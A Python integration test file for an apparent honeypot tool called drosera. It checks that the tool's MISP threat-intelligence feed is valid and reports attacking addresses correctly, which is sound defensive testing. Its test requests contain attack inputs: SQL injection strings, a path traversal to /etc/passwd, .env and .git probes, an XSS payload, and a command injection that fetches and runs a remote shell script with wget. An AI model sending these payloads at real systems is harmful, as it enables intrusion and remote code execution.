"""MISP reporting (issue 6) with the real binary. `drosera run` records real attacks sent over
127.0.0.1 (the attackers' addresses come through X-Forwarded-For from a trusted proxy, since
loopback itself is warninglisted), `drosera report misp --once` writes the feed folder, and every
file is checked against MISP's own rules shipped in data/misp: manifest.json, hashes.csv and the
<uuid>.json events, category/type pairs (schemas/pymisp-describeTypes.json), the lax JSON
schema, the http-request template, every tag in a taxonomy or the galaxy, no warninglisted
address. Also: the timestamp bumped in the event and the manifest on a change (and nothing
rewritten without one), the periodic reporter inside drosera run, the lock that keeps two
reporters of one data folder apart, configuration errors."""
import hashlib
import ipaddress
import json
import os
import re
import subprocess
import time
import unittest

from harness import BIN, SOURCE, Drosera, default_config

MISP = os.path.join(SOURCE, "data", "misp")

SQLI = "45.33.32.156"
RCE = "185.220.101.34"
SCANNER = "91.240.118.172"
PAYLOAD_HOST = "45.61.185.23"
NEVER = ["203.0.113.45", "10.1.2.3", "162.142.125.7", "66.240.192.138", "192.168.7.7"]
PLAIN = "77.88.5.5"  # plain browsing: no evidence, not reported


def load(path):
    with open(path) as f:
        return json.load(f)


def read_bytes(path):
    with open(path, "rb") as f:
        return f.read()


def snapshot(folder):
    return {n: read_bytes(os.path.join(folder, n)) for n in os.listdir(folder)}


class MispRules:
    """MISP's rules from the shipped data (written apart from the C++ code and its oracle)."""

    def __init__(self):
        describe = load(os.path.join(MISP, "schemas", "pymisp-describeTypes.json"))["result"]
        self.types = set(describe["types"])
        self.categories = describe["category_type_mappings"]
        self.schema = load(os.path.join(MISP, "schemas", "pymisp-schema-lax.json"))
        self.templates = {}
        for name in os.listdir(os.path.join(MISP, "objects")):
            if name.endswith(".definition.json") and name != "relationships.definition.json":
                t = load(os.path.join(MISP, "objects", name))
                self.templates[t["name"]] = t
        self.tags = set()
        for name in os.listdir(os.path.join(MISP, "taxonomies")):
            if not name.endswith(".machinetag.json"):
                continue
            t = load(os.path.join(MISP, "taxonomies", name))
            valued = set()
            for v in t.get("values", []):
                valued.add(v["predicate"])
                for e in v["entry"]:
                    self.tags.add('%s:%s="%s"' % (t["namespace"], v["predicate"], e["value"]))
            for p in t["predicates"]:
                if p["value"] not in valued:
                    self.tags.add("%s:%s" % (t["namespace"], p["value"]))
        g = load(os.path.join(MISP, "galaxy", "mitre-attack-pattern.subset.json"))
        for v in g["values"]:
            self.tags.add('misp-galaxy:%s="%s"' % (g["type"], v["value"]))
        self.cidrs = []  # (list name, network) for every cidr list that applies to ip-src
        for name in os.listdir(os.path.join(MISP, "warninglists")):
            if name == "schema.json":
                continue
            w = load(os.path.join(MISP, "warninglists", name))
            if w["type"] != "cidr" or (w.get("matching_attributes") and
                                       "ip-src" not in w["matching_attributes"]):
                continue
            for e in w["list"]:
                try:
                    self.cidrs.append((w["name"], ipaddress.ip_network(e, strict=False)))
                except ValueError:
                    pass

    def listed(self, ip):
        a = ipaddress.ip_address(ip)
        return [n for n, net in self.cidrs if a.version == net.version and a in net]

    def schema_errors(self, value, schema=None, path="$"):
        """The draft-04 keywords schema-lax.json uses: type, properties, required, items,
        uniqueItems, $ref."""
        s = self.schema if schema is None else schema
        if "$ref" in s:
            return self.schema_errors(value, self.schema["defs"][s["$ref"].split("/")[-1]], path)
        out = []
        kinds = {"object": dict, "array": list, "string": str, "boolean": bool}
        if "type" in s:
            types = s["type"] if isinstance(s["type"], list) else [s["type"]]
            ok = any((t == "integer" and isinstance(value, int) and not isinstance(value, bool)) or
                     (t == "number" and isinstance(value, (int, float)) and not isinstance(value, bool)) or
                     (t == "null" and value is None) or
                     (t in kinds and isinstance(value, kinds[t])) for t in types)
            if not ok:
                out.append("%s: not %s" % (path, types))
        if isinstance(value, dict):
            for k in s.get("required", []):
                if k not in value:
                    out.append("%s: missing %s" % (path, k))
            for k, sub in s.get("properties", {}).items():
                if k in value:
                    out += self.schema_errors(value[k], sub, path + "." + k)
        if isinstance(value, list):
            if "items" in s:
                for i, v in enumerate(value):
                    out += self.schema_errors(v, s["items"], "%s[%d]" % (path, i))
            if s.get("uniqueItems"):
                seen = [json.dumps(v, sort_keys=True) for v in value]
                if len(seen) != len(set(seen)):
                    out.append("%s: repeated items" % path)
        return out

    def attribute_errors(self, a, where, in_object):
        out = []
        if a["type"] not in self.types:
            out.append("%s: unknown type %s" % (where, a["type"]))
        if a["type"] not in self.categories.get(a["category"], []):
            out.append("%s: category %s does not allow %s" % (where, a["category"], a["type"]))
        if (not a["value"] or a["value"] != a["value"].strip() or
                ("\n" in a["value"] and a["type"] != "text")):
            out.append("%s: value %r" % (where, a["value"]))
        if a["type"] in ("ip-src", "ip-dst"):
            try:
                if str(ipaddress.ip_address(a["value"])) != a["value"]:
                    out.append("%s: IP not canonical" % where)
            except ValueError:
                out.append("%s: not an IP address" % where)
        if not isinstance(a["to_ids"], bool):
            out.append("%s: to_ids" % where)
        if not re.fullmatch(r"[0-9a-f]{8}-[0-9a-f]{4}-5[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}", a["uuid"]):
            out.append("%s: not a UUIDv5: %s" % (where, a["uuid"]))
        if in_object != ("object_relation" in a):
            out.append("%s: object_relation" % where)
        for k in ("first_seen", "last_seen"):
            if k in a and not re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d{1,6})?(Z|[+-]\d\d:\d\d)", a[k]):
                out.append("%s: %s %s" % (where, k, a[k]))
        for t in a.get("Tag", []):
            if t["name"] not in self.tags:
                out.append("%s: tag %s is in no taxonomy or galaxy" % (where, t["name"]))
        return out

    def object_errors(self, o, where):
        t = self.templates.get(o["name"])
        if t is None:
            return ["%s: no template %s" % (where, o["name"])]
        out = []
        if o["template_uuid"] != t["uuid"] or o["template_version"] != str(t["version"]):
            out.append("%s: template uuid/version" % where)
        if o["meta-category"] != t["meta-category"] or o["description"] != t["description"]:
            out.append("%s: meta-category/description" % where)
        rels = [a["object_relation"] for a in o["Attribute"]]
        for a in o["Attribute"]:
            w = where + "." + a["object_relation"]
            out += self.attribute_errors(a, w, True)
            r = t["attributes"].get(a["object_relation"])
            if r is None:
                out.append("%s: relation not in the template" % w)
                continue
            if r["misp-attribute"] != a["type"]:
                out.append("%s: type %s, template %s" % (w, a["type"], r["misp-attribute"]))
            if "categories" in r and a["category"] not in r["categories"]:
                out.append("%s: category not allowed by the template" % w)
            if rels.count(a["object_relation"]) > 1 and not r.get("multiple"):
                out.append("%s: repeated" % w)
        for req in t.get("required", []):
            if req not in rels:
                out.append("%s: required %s missing" % (where, req))
        if t.get("requiredOneOf") and not set(t["requiredOneOf"]) & set(rels):
            out.append("%s: none of %s" % (where, t["requiredOneOf"]))
        return out

    def event_errors(self, doc):
        out = self.schema_errors(doc)
        e = doc["Event"]
        for k, pattern in (("uuid", r"[0-9a-f-]{36}"), ("date", r"\d{4}-\d\d-\d\d"),
                           ("analysis", r"[0-2]"), ("threat_level_id", r"[1-4]"),
                           ("timestamp", r"\d+"), ("info", r"[^\n]{1,256}")):
            if not re.fullmatch(pattern, e.get(k, "")):
                out.append("Event.%s: %r" % (k, e.get(k)))
        for t in e["Tag"]:
            if t["name"] not in self.tags:
                out.append("Event tag %s is in no taxonomy or galaxy" % t["name"])
        uuids = [e["uuid"]]
        for a in e["Attribute"]:
            out += self.attribute_errors(a, "Attribute %s %s" % (a["type"], a["value"]), False)
            uuids.append(a["uuid"])
        for o in e["Object"]:
            out += self.object_errors(o, "Object " + o["uuid"])
            uuids += [o["uuid"]] + [a["uuid"] for a in o["Attribute"]]
        if len(uuids) != len(set(uuids)):
            out.append("a UUID is repeated in the event")
        return out


RULES = MispRules()


def values(event):
    """(type, value) of every attribute, objects' included."""
    e = event["Event"]
    out = [(a["type"], a["value"]) for a in e["Attribute"]]
    for o in e["Object"]:
        out += [(a["type"], a["value"]) for a in o["Attribute"]]
    return out


def read_feed(test, feed):
    """Checks the whole feed folder; returns {uuid: event document}."""
    names = sorted(os.listdir(feed))
    test.assertIn("manifest.json", names)
    test.assertIn("hashes.csv", names)
    test.assertFalse([n for n in names if n.startswith(".tmp")], "temporary files left")
    manifest = load(os.path.join(feed, "manifest.json"))
    events = {}
    for n in names:
        if n in ("manifest.json", "hashes.csv"):
            continue
        test.assertRegex(n, r"^[0-9a-f-]{36}\.json$")
        events[n[:-5]] = load(os.path.join(feed, n))
    test.assertEqual(set(manifest), set(events), "manifest.json lists exactly the event files")
    hashes = []
    for uuid, doc in events.items():
        test.assertEqual(RULES.event_errors(doc), [], "event %s breaks MISP's rules" % uuid)
        e = doc["Event"]
        m = manifest[uuid]
        test.assertEqual(m["timestamp"], int(e["timestamp"]))
        test.assertEqual((m["info"], m["date"], m["analysis"], m["threat_level_id"]),
                         (e["info"], e["date"], int(e["analysis"]), int(e["threat_level_id"])))
        test.assertEqual(m["Tag"], e["Tag"])
        test.assertEqual(m["Orgc"], e["Orgc"])
        hashes += ["%s,%s" % (hashlib.md5(v.encode()).hexdigest(), uuid) for _, v in values(doc)]
    with open(os.path.join(feed, "hashes.csv")) as f:
        lines = f.read().splitlines()
    test.assertEqual(sorted(lines), sorted(hashes), "hashes.csv: md5(value),uuid of every value")
    text = b"".join(read_bytes(os.path.join(feed, n)) for n in names).decode(errors="replace")
    for ip in NEVER + [PLAIN]:
        test.assertNotIn('"%s"' % ip, text, "%s must not be reported" % ip)
        test.assertNotIn(hashlib.md5(ip.encode()).hexdigest(), text)
    for doc in events.values():
        for t, v in values(doc):
            if t in ("ip-src", "ip-dst"):
                test.assertEqual(RULES.listed(v), [], "%s is warninglisted" % v)
    return events


def attribute(events, type_, value):
    for doc in events.values():
        for a in doc["Event"]["Attribute"]:
            if a["type"] == type_ and a["value"] == value:
                return doc, a
    return None, None


def attack(d, ip, method, target, body=None, headers=None):
    h = {"X-Forwarded-For": ip, "X-Test-Marker": "misp"}
    if headers:
        h.update(headers)
    if body is not None:
        h["Content-Type"] = "application/x-www-form-urlencoded"
    return d.request(method, target, headers=h, body=body)


def report(d, *extra, timeout=120):
    return subprocess.run([BIN, "report", "misp", "--once", "--config", d.config_path,
                           "--data-dir", d.data_dir] + list(extra),
                          capture_output=True, text=True, timeout=timeout)


TRUSTED = '[server]\ntrusted_proxies = ["127.0.0.1/32"]\n'


class MispReportTest(unittest.TestCase):
    def test_report_misp_once_writes_a_valid_feed_of_real_attacks(self):
        d = Drosera(default_config(TRUSTED + "[misp]\nenabled = false\n"), command="run")
        try:
            d.start()
            attack(d, SQLI, "GET", "/products.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-")
            attack(d, SQLI, "GET", "/index.php?file=../../../../etc/passwd")
            attack(d, RCE, "GET", "/cgi-bin/status?cmd=%3Bwget%20http%3A%2F%2F" + PAYLOAD_HOST +
                   "%2Fbins%2Fx86.sh%3Bsh%20x86.sh")
            attack(d, SCANNER, "GET", "/.env")
            attack(d, SCANNER, "GET", "/.git/config")
            attack(d, SCANNER, "POST", "/wp-login.php", body="log=admin&pwd=hunter2")
            for ip in NEVER:
                attack(d, ip, "GET", "/products.php?id=1%27%20OR%201=1--")
            attack(d, PLAIN, "GET", "/")
            sent = 7 + len(NEVER)
            d.wait_api("/api/v1/status", lambda s: s["store"]["events"] >= sent)

            r = report(d)
            self.assertEqual(r.returncode, 0, r.stderr)
            self.assertIn("misp-feed", r.stdout)
            read = re.search(r"(\d+) events read", r.stdout)
            self.assertIsNotNone(read, r.stdout)
            self.assertGreaterEqual(int(read.group(1)), sent)
            feed = os.path.join(d.data_dir, "misp-feed")
            events = read_feed(self, feed)
            self.assertEqual(len(events), 1, "one event for the sensor and the day")
            doc = next(iter(events.values()))
            e = doc["Event"]
            self.assertEqual(e["date"], time.strftime("%Y-%m-%d", time.gmtime()))
            self.assertEqual(e["analysis"], "1")  # the day is not over
            self.assertIn("tlp:amber", [t["name"] for t in e["Tag"]])
            self.assertTrue(any(t["name"].startswith("honeypot-basic:") for t in e["Tag"]))
            self.assertNotIn("HoneytrapEvent", json.dumps(doc))

            _, sqli = attribute(events, "ip-src", SQLI)
            self.assertIsNotNone(sqli, "the SQL injection source is reported")
            self.assertTrue(sqli["to_ids"])
            self.assertIn("2 requests", sqli["comment"])
            self.assertIn('circl:incident-classification="sql-injection"', [t["name"] for t in sqli["Tag"]])
            self.assertLessEqual(sqli["first_seen"], sqli["last_seen"])
            _, scanner = attribute(events, "ip-src", SCANNER)
            self.assertIsNotNone(scanner)
            self.assertIn('rsit:information-gathering="scanner"', [t["name"] for t in scanner["Tag"]])
            _, rce = attribute(events, "ip-src", RCE)
            self.assertIsNotNone(rce)
            self.assertTrue(rce["to_ids"])
            _, url = attribute(events, "url", "http://%s/bins/x86.sh" % PAYLOAD_HOST)
            self.assertIsNotNone(url, "the payload URL of the command injection is reported")
            self.assertEqual(url["category"], "Payload delivery")
            self.assertTrue(url["to_ids"])
            objects = [o for o in e["Object"] if o["name"] == "http-request"]
            self.assertTrue(objects)
            for o in objects:
                rel = {a["object_relation"]: a["value"] for a in o["Attribute"]}
                self.assertNotIn("host", rel)  # the sensor's own name
                self.assertNotIn("ip-dst", rel)
            self.assertNotIn("hunter2", json.dumps(events), "credentials are not shared by default")
            self.assertNotIn("127.0.0.1", json.dumps(events))

            # Nothing new: nothing rewritten.
            before = snapshot(feed)
            time.sleep(1.1)
            r = report(d)
            self.assertEqual(r.returncode, 0, r.stderr)
            self.assertEqual(snapshot(feed), before)

            # A new attack: a newer timestamp in the event file and in the manifest.
            t1 = int(e["timestamp"])
            attack(d, SQLI, "GET", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E")
            d.wait_api("/api/v1/status", lambda s: s["store"]["events"] >= sent + 1)
            r = report(d)
            self.assertEqual(r.returncode, 0, r.stderr)
            events = read_feed(self, feed)
            doc = events[e["uuid"]]
            self.assertGreater(int(doc["Event"]["timestamp"]), t1)
            self.assertEqual(load(os.path.join(feed, "manifest.json"))[e["uuid"]]["timestamp"],
                             int(doc["Event"]["timestamp"]))
            _, sqli = attribute(events, "ip-src", SQLI)
            self.assertIn("3 requests", sqli["comment"])
            self.assertIn('circl:incident-classification="XSS"', [t["name"] for t in sqli["Tag"]])
        finally:
            d.cleanup()

    def test_drosera_run_keeps_the_feed_itself_and_holds_the_lock(self):
        d = Drosera(default_config(TRUSTED + "[misp]\ninterval_s = 0.5\n"), command="run")
        try:
            d.start()
            with open(os.path.join(d.tmp, "stdout.txt")) as f:
                self.assertIn("MISP:", f.read())
            attack(d, SQLI, "GET", "/products.php?id=1%27%20UNION%20SELECT%201,2--")
            feed = os.path.join(d.data_dir, "misp-feed")
            deadline = time.time() + 60
            events = {}
            while time.time() < deadline:
                try:
                    events = read_feed(self, feed)
                    if attribute(events, "ip-src", SQLI)[1]:
                        break
                except (OSError, ValueError, AssertionError):
                    pass
                time.sleep(0.2)
            self.assertIsNotNone(attribute(events, "ip-src", SQLI)[1],
                                 "drosera run reported the attack by itself: " + d.stderr_text())
            # The attacker page's API says where the address was reported: the feed's event
            # and attribute. An address that was never reported says so.
            doc, attr = attribute(events, "ip-src", SQLI)
            m = d.api("/api/v1/attackers/" + SQLI)["misp"]
            self.assertTrue(m["tracked"] and m["reported"], m)
            self.assertEqual([(r["destination"], r["where"], r["event_uuid"], r["attribute_uuid"], r["date"])
                              for r in m["reports"]],
                             [("feed", feed, doc["Event"]["uuid"], attr["uuid"], doc["Event"]["date"])])
            self.assertRegex(m["reports"][0]["published"], r"^\d{4}-\d\d-\d\dT")
            attack(d, PLAIN, "GET", "/about.html")
            d.wait_api("/api/v1/attackers", lambda a: any(x["ip"] == PLAIN for x in a["attackers"]))
            m = d.api("/api/v1/attackers/" + PLAIN)["misp"]
            self.assertEqual((m["tracked"], m["reported"], m["reports"]), (True, False, []))
            # The reporter's passes are in the collector's status: it ran, without failure,
            # and reported the attack; its cursor is the store's last seq once caught up.
            st = d.wait_api("/api/v1/status",
                            lambda s: s.get("misp", {}).get("cursor", 0) >= s["store"]["last_seq"])
            self.assertGreaterEqual(st["misp"]["runs"], 1, st)
            self.assertEqual((st["misp"]["failures"], st["misp"]["last_error"]), (0, ""), st)
            self.assertGreaterEqual(st["misp"]["events_reported"], 1, st)
            self.assertGreaterEqual(st["misp"]["misp_events_updated"], 1, st)
            self.assertGreater(st["misp"]["last_ok_us"], 0, st)
            self.assertEqual(oct(os.stat(feed).st_mode & 0o777), oct(0o755))
            self.assertEqual(oct(os.stat(os.path.join(feed, "manifest.json")).st_mode & 0o777),
                             oct(0o644))

            # A second reporter on the same data folder is refused while run reports.
            r = report(d)
            self.assertEqual(r.returncode, 1)
            self.assertIn("another MISP reporter", r.stderr)

            d.stop()
            r = report(d)
            self.assertEqual(r.returncode, 0, r.stderr)
            read_feed(self, feed)
        finally:
            d.cleanup()

    def test_errors_name_the_key_or_the_folder(self):
        d = Drosera(default_config('[misp]\nurl = "http://misp.example.org"\n'))
        try:
            # Plain http to a remote MISP would send the key in clear.
            r = subprocess.run([BIN, "config", "check", d.config_path], capture_output=True,
                               text=True, timeout=60)
            self.assertEqual(r.returncode, 2)
            self.assertIn("misp.url", r.stderr)
            r = report(d)
            self.assertEqual(r.returncode, 2)
            self.assertIn("misp.url", r.stderr)
            # A data folder no drosera has used: no store to report from.
            with open(d.config_path, "w") as f:
                f.write(default_config())
            os.makedirs(d.data_dir, exist_ok=True)
            r = report(d)
            self.assertEqual(r.returncode, 1)
            self.assertIn("no store at", r.stderr)
        finally:
            d.cleanup()


if __name__ == "__main__":
    unittest.main()
